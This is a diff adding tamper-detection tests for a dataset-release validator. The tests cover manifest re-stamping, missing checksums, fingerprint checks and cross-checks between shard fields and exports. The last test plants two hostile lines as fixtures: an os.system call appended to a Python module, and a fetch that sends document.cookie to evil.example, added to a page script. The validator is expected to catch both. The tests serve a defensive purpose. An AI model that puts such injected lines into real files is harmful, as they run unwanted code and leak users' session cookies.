@@ -157,3 +157,157 @@ def test_a_gap_in_the_funnel_fails_validation(dataset, tmp_path):
     del stats["funnel"]
     (root / "stats.json").write_text(json.dumps(stats))
     assert any("has no funnel" in v for v in validate.run([str(root)]))
+
+
+# --- issue 28: verification with an anchor --------------------------------------------------
+
+def _validate_cli(root, *args):
+    return subprocess.run([sys.executable, "-m", "beam_pipelines.validate", str(root), *args],
+                          capture_output=True, text=True)
+
+
+def _restamp_manifest_entry(root, name):
+    """What an attacker does after editing a file: its manifest entry rewritten to match."""
+    import json
+    from transforms.core import manifest
+    stored = json.loads((root / "_MANIFEST.json").read_text())
+    stored["files"][name] = manifest.describe(str(root))["files"][name]
+    (root / "_MANIFEST.json").write_text(json.dumps(stored))
+
+
+def test_every_unreadable_file_is_a_violation_never_a_traceback(dataset, tmp_path):
+    root = _copy(dataset, tmp_path)
+    for name in ("record/train.json", "superglue/val.jsonl"):
+        data = (root / name).read_bytes()
+        (root / name).write_bytes(data[:len(data) // 2])          # truncated
+    (root / "stats.json").write_text("{")
+    path, _ = _shard(root, "test")
+    path.write_bytes(b"not a Parquet file at all")
+    out = _validate_cli(root, "--max_violations", "100")
+    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr[-2000:]
+    for name in ("stats.json", "record/train.json", path.name):
+        assert f"  {name}: unreadable or not in the expected layout" in out.stderr, name
+    import re
+    assert re.search(r"  superglue/val\.jsonl line \d+: not JSON", out.stderr)
+
+
+def test_an_empty_folder_or_no_folder_is_never_ok(tmp_path):
+    (tmp_path / "empty").mkdir()
+    out = _validate_cli(tmp_path / "empty", "--max_violations", "0")
+    assert out.returncode == 1 and out.stderr.strip().splitlines() == [
+        "error: --max_violations must be at least 1, got 0 (see --help)"]
+    out = _validate_cli(tmp_path / "empty")
+    assert out.returncode == 1 and "_MANIFEST.json is missing" in out.stderr
+    assert validate.run([str(tmp_path / "nowhere")]) == [
+        f"{tmp_path / 'nowhere'}: no such folder (pass the released DIR/dataset)"]
+
+
+def test_the_release_fingerprint_is_on_the_card_and_checked(dataset, tmp_path):
+    from transforms.finalize import fingerprint
+    (stated,) = fingerprint.stated((dataset / "README.md").read_text())
+    out = _validate_cli(dataset, "--expect", f"sha256:{stated}")
+    assert out.returncode == 0 and out.stdout.strip() == (
+        f"OK: every contract invariant holds; release fingerprint sha256:{stated}")
+    assert validate.release_fingerprint(str(dataset)) == stated
+    # recomputed as documented: the manifest's files map, the card's value as zeros
+    import hashlib
+    import json
+    files = json.loads((dataset / "_MANIFEST.json").read_text())["files"]
+    card = (dataset / "README.md").read_text().replace(stated, "0" * 64).encode()
+    files["README.md"] = {"size": len(card), "sha256": hashlib.sha256(card).hexdigest()}
+    blob = json.dumps(files, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
+    assert hashlib.sha256(blob.encode()).hexdigest() == stated
+    other = "0" * 63 + "1"
+    assert validate.run([str(dataset), "--expect", other]) == [
+        f"release fingerprint is sha256:{stated}, expected sha256:{other} (not the release "
+        "you expect)"]
+
+
+def test_an_entry_without_sha256_lets_no_change_past(dataset, tmp_path):
+    """Before: deleting an entry's sha256 key got a same-size change of the card's licence
+    past validate and publish --dry_run."""
+    import json
+    root = _copy(dataset, tmp_path)
+    card = (root / "README.md").read_text()
+    assert "license: unknown" in card
+    (root / "README.md").write_text(card.replace("license: unknown", "license: mit-xyz", 1))
+    stored = json.loads((root / "_MANIFEST.json").read_text())
+    del stored["files"]["README.md"]["sha256"]
+    (root / "_MANIFEST.json").write_text(json.dumps(stored))
+    violations = validate.run([str(root)])
+    assert violations[0] == "README.md: its _MANIFEST.json entry carries no sha256 (it could " \
+                            "change unseen)"
+    assert violations[1].startswith("README.md states release fingerprint sha256:")
+    out = subprocess.run([sys.executable, "-m", "beam_pipelines.publish", str(root), "me/x",
+                          "--dry_run"], capture_output=True, text=True)
+    assert out.returncode == 1 and "carries no sha256" in out.stderr.strip().splitlines()[-1]
+
+
+def test_an_edited_shard_with_its_manifest_entry_rewritten_is_caught(dataset, tmp_path):
+    """Before: validate said OK (query text was not cross-checked, nothing anchored the
+    manifest)."""
+    from tests.test_release import tamper_one_query
+    from transforms.core import manifest
+    from transforms.finalize import fingerprint
+    root = _copy(dataset, tmp_path)
+    (original,) = fingerprint.stated((root / "README.md").read_text())
+    path, _ = _shard(root, "train")
+    qid, old, new = tamper_one_query(path)
+    _restamp_manifest_entry(root, path.name)
+    violations = validate.run([str(root), "--max_violations", "50"])
+    assert violations[0] == f"record/train.json query {qid!r}: query text differs from the shard's"
+    assert any(v.startswith("superglue/train.jsonl line") and qid in v for v in violations)
+    assert any(v.startswith("README.md states release fingerprint") for v in violations)
+    # the card re-stamped and the manifest rewritten whole: the exports still disagree, and
+    # the fingerprint a user expects is not this one
+    stamped, described = fingerprint.stamp(str(root))
+    manifest.write(str(root), described)
+    assert stamped != original
+    violations = validate.run([str(root), "--expect", original, "--max_violations", "50"])
+    assert violations[0].startswith(f"record/train.json query {qid!r}")
+    assert f"release fingerprint is sha256:{stamped}, expected sha256:{original} (not the " \
+           "release you expect)" in violations
+
+
+@pytest.mark.parametrize("field", ["passage", "answers", "entities", "passage_id"])
+def test_each_field_of_a_shard_is_cross_checked_with_the_exports(dataset, tmp_path, field):
+    root = _copy(dataset, tmp_path)
+    path, rows = _shard(root, "dev")
+    pid = rows[0]["passage_id"]
+    for r in rows:
+        if r["passage_id"] != pid:
+            continue
+        if field == "passage":                          # same length: spans stay valid
+            r["passage"] = r["passage"][:-1] + ("X" if r["passage"][-1] != "X" else "Y")
+        elif field == "answers":
+            r["answers"] = r["answers"][:1] + [e for e in r["entities"]
+                                               if e["text"] != r["answers"][0]["text"]][:1]
+            r["answers"] = [{k: a[k] for k in ("start", "end", "text")} for a in r["answers"]]
+        elif field == "entities":
+            r["entities"] = r["entities"] + [dict(r["entities"][0], start=0, end=1,
+                                                  text=r["passage"][0])]
+        else:
+            r["passage_id"] = pid + "-moved"
+    _rewrite(path, rows)
+    _restamp_manifest_entry(root, path.name)
+    violations = " | ".join(validate.run([str(root), "--max_violations", "100"]))
+    expected = {"passage": "passage text differs from the shards'",
+                "answers": "differ from the shard's",
+                "entities": "entity spans differ from the shards'",
+                "passage_id": "not a passage of the dev shards"}[field]
+    assert f"record/dev.json" in violations and expected in violations, violations
+
+
+def test_lm_eval_code_and_explorer_script_are_regenerated_and_compared(dataset, tmp_path):
+    """Before: an lm_eval/utils.py given an os.system(...) line passed validate."""
+    root = _copy(dataset, tmp_path)
+    utils = root / "lm_eval" / "utils.py"
+    utils.write_text(utils.read_text() + "\nimport os\nos.system('touch /tmp/owned')\n")
+    _restamp_manifest_entry(root, "lm_eval/utils.py")
+    (root / "lm_eval" / "extra.py").write_text("print('hi')\n")
+    data = root / "explorer" / "data.js"
+    data.write_text(data.read_text() + "fetch('https://evil.example/?' + document.cookie);\n")
+    violations = validate.run([str(root), "--max_violations", "100"])
+    assert "lm_eval/utils.py: differs from the file finalize writes for this release" in violations
+    assert any(v.startswith("lm_eval/extra.py: not a file finalize writes") for v in violations)
+    assert "explorer/data.js: not `window.EXPLORER_DATA = <JSON>;` (the page runs it)" in violations
